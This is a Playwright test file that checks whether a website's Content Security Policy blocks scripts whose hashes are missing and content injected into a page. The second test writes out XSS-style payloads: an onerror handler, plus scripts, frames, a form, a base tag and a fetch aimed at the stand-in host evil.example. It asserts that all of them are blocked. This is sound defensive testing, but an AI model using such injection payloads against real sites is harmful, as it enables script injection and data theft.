import { expect, test } from '@playwright/test';
import { complaintsOf, openPage } from './pages.ts';

/*
 * Whether browsers heed the policy of a page, and whether the tests would notice: `complaintsOf` hears of every
 * violation, because browsers write it on the console, and most of the tests here use it.
 */
const ABOUT = './about/';

test('a script without its hash in the policy does not run, and is complained about', async ({
  page,
  baseURL,
  request,
}) => {
  const html = await (await request.get(ABOUT)).text();
  const hashes = html.match(/'sha256-[^']+'/g) ?? [];
  expect(hashes.length).toBeGreaterThan(3);
  const complaints = complaintsOf(page, baseURL);
  let body = html;
  await page.route('**/about/', (route) => route.fulfill({ body, contentType: 'text/html' }));
  await openPage(page, ABOUT);
  expect(complaints).toEqual([]);
  for (const hash of hashes) {
    body = html.replace(` ${hash}`, '');
    complaints.length = 0;
    await page.goto(ABOUT);
    await expect.poll(() => complaints.join(), { message: hash }).toContain(hash);
  }
});

test('what somebody else brings into a page neither runs nor is fetched', async ({ page }) => {
  const asked: string[] = [];
  await page.route('https://evil.example/**', (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  await openPage(page, './do/');
  const blocked = await page.evaluate(async () => {
    const found: string[] = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      found.push(effectiveDirective),
    );
    const put = (html: string) => document.body.insertAdjacentHTML('beforeend', html);
    put('<img src="x:" onerror="document.title = 1"><img src="https://evil.example/a.png">');
    put('<iframe src="https://evil.example/"></iframe><object data="https://evil.example/a">');
    put(
      '<form id="evil" action="https://evil.example/"></form><base href="https://evil.example/">',
    );
    (document.getElementById('evil') as HTMLFormElement).submit();
    for (const src of ['https://evil.example/a.js', 'data:text/javascript,document.title=1']) {
      document.body.append(Object.assign(document.createElement('script'), { src }));
    }
    const inline = Object.assign(document.createElement('script'), { text: 'document.title = 1' });
    document.body.append(inline);
    await fetch('https://evil.example/').catch(() => undefined);
    // A form is sent by a task of its own, which may come late on a busy machine.
    for (let waited = 0; waited < 30 && !found.includes('form-action'); waited++) {
      await new Promise((done) => setTimeout(done, 100));
    }
    return [...new Set(found)].sort();
  });
  expect(blocked).toEqual([
    'base-uri',
    'connect-src',
    'form-action',
    'frame-src',
    'img-src',
    'object-src',
    'script-src-attr',
    'script-src-elem',
  ]);
  expect(asked).toEqual([]);
  expect(await page.title()).not.toBe('1');
});
